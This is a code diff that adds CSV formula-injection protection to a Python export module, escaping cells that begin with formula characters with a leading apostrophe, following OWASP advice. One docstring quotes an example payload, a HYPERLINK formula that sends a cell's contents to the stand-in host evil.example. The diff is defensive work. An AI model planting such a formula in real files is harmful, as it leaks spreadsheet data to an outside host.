@@ -13,6 +13,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 import zipfile
 from collections.abc import Iterator, Mapping, Sequence
 from typing import Any
@@ -55,11 +56,32 @@ BOM = "\ufeff"
 (Python's utf-8-sig, pandas) skip it."""
 
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+"""What a spreadsheet reads a cell as a formula by (OWASP, "CSV Injection"): a name such as
+``=HYPERLINK("http://evil.example/?x="&A1,"click")`` would run when the file is opened."""
+
+_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
+"""A figure as the exports write it (``-3``, ``8.63``): a number to a spreadsheet, never a
+formula, so it stays as it is (negative scores included)."""
+
+
+def safe_cell(value: Any) -> Any:
+    """A CSV cell a spreadsheet shows as text, never runs: a text beginning with one of
+    :data:`FORMULA_STARTS` gets a leading apostrophe (``'=SUM(1+1)``, ``'-2+3``), as OWASP
+    advises; numbers, and texts that are plain figures, are written as they are. Only the CSV
+    cell changes: the name stays as registered everywhere else (JSON, JSON Lines, records)."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
+        return "'" + value
+    return value
+
+
 def _csv(rows: Sequence[Sequence[Any]]) -> str:
+    """Every CSV file the project writes: the byte-order mark, then the rows, every cell made
+    safe for a spreadsheet (:func:`safe_cell`)."""
     out = io.StringIO(BOM)
     out.seek(len(BOM))
     writer = csv.writer(out, lineterminator="\r\n")  # RFC 4180
-    writer.writerows(rows)
+    writer.writerows([safe_cell(cell) for cell in row] for row in rows)
     return out.getvalue()
 
 
